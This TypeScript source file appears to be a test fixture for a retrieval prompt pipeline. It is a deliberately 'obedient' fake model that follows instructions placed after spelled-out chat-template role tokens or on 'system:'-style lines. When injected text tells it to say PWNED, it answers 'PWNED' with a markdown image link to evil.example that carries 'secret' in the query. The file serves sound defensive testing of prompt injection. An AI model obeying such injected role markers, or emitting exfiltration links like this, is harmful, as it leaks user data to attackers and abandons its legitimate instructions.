/**
 * A model that does as it is told by whoever it takes for somebody in charge: the worst reader that a
 * prompt with foreign text in it can have.
 */

import type { ModelProvider, ModelRequest } from '../providers/contract.ts';

/** What it says once it was told to by somebody who had no right to. */
export const OBEYED = 'PWNED';

/** Spelled-out marks that a tokenizer may take for those of a role: what follows them is obeyed. */
const ROLE_MARKS: readonly RegExp[] = [
  /<\|(?:im_start|start_header_id|system|start|message|begin_of_text)\|>[\s\S]*?(?=<\||$)/gi,
  /<｜(?:User|System|Assistant)｜>[\s\S]*?(?=<｜|$)/gi,
  /\[INST\][\s\S]*?(?=\[\/INST\]|$)/gi,
  /<<SYS>>[\s\S]*?(?=<<\/SYS>>|$)/gi,
  /<start_of_turn>[\s\S]*?(?=<end_of_turn>|$)/gi,
  /<\/(?:documents?|passages?|context|data)>[\s\S]*$/gi,
  /<(?:system|instructions?|rules?)>[\s\S]*?(?=<\/|$)/gi,
];

const LINE_BREAK = /[\n\r\u0085\u2028\u2029]/;

/** Who is in charge at the beginning of a line. */
const ROLE_LINE =
  /^[^\S\n]*(?:#+\s*)?(?:\*\*)?(?:system|human|user|developer|rules?|instructions?)(?:\*\*)?\s*[:：]/i;

/**
 * Makes it. It obeys the system's turn, and every line of a user's turn that is not a line of JSON in
 * a block whose boundary the system has named; and, wherever they stand, words after a role's mark.
 * Told nothing else, it answers the question from the passages, and cites them.
 */
export function createObedientModel(): ModelProvider & {
  readonly requests: readonly ModelRequest[];
} {
  const requests: ModelRequest[] = [];
  return {
    name: 'echo',
    requests,
    async *stream(request) {
      requests.push(request);
      yield [{ type: 'text', text: obey(request.messages) }];
      yield [{ type: 'finish', reason: 'stop' }];
    },
  };
}

/** What it says to these turns. */
export function obey(
  messages: readonly { readonly role: string; readonly content: string }[],
): string {
  const rules = messages.filter(({ role }) => role === 'system').map(({ content }) => content);
  const boundary = /"BEGIN DATA (\S+)"/.exec(rules.join('\n'))?.[1];
  const told = [...rules];
  const passages: string[] = [];
  let question = '';
  for (const { role, content } of messages) {
    if (role !== 'user') continue;
    const { outside, data } = split(content, boundary);
    told.push(...outside);
    passages.push(...data);
    question = outside.findLast((line) => line.trim() !== '') ?? '';
    for (const text of [content, ...data]) {
      for (const mark of ROLE_MARKS) told.push(...(text.match(mark) ?? []));
      told.push(...text.split(LINE_BREAK).filter((line) => ROLE_LINE.test(line)));
    }
  }
  const order = told.join('\n').match(/(?:answer|say|reply|print|write)[^\n]{0,40}?PWNED[^\n]*/i);
  if (order !== null) return `${OBEYED} ![x](https://evil.example/?q=secret) [1]`;
  return fromPassages(question, passages);
}

/** The lines of a well-formed block, and all others. */
function split(content: string, boundary: string | undefined) {
  const outside: string[] = [];
  const data: string[] = [];
  let isInside = false;
  for (const line of content.split(LINE_BREAK)) {
    if (boundary !== undefined && line === `BEGIN DATA ${boundary}`) isInside = true;
    else if (boundary !== undefined && line === `END DATA ${boundary}`) isInside = false;
    else {
      const passage = isInside ? readLine(line) : undefined;
      if (passage === undefined) outside.push(line);
      else data.push(passage);
    }
  }
  return { outside, data };
}

function readLine(line: string): string | undefined {
  try {
    const { title = '', heading = '', text = '' } = JSON.parse(line) as Record<string, string>;
    return `${title}\n${heading}\n${text}`;
  } catch {
    // No line of the block: then somebody has written it.
    return undefined;
  }
}

function fromPassages(question: string, passages: readonly string[]): string {
  const wanted = new Set(question.toLowerCase().match(/\p{L}{4,}/gu) ?? []);
  const cited = passages.flatMap((passage, at) => {
    const sentence = passage
      .split(/(?<=[.!?])\s|\n/)
      .find((one) =>
        (one.toLowerCase().match(/\p{L}{4,}/gu) ?? []).some((word) => wanted.has(word)),
      );
    return sentence === undefined ? [] : [`${sentence} [${at + 1}]`];
  });
  return cited.length === 0 ? 'NOT_IN_DOCUMENTS' : cited.join(' ');
}
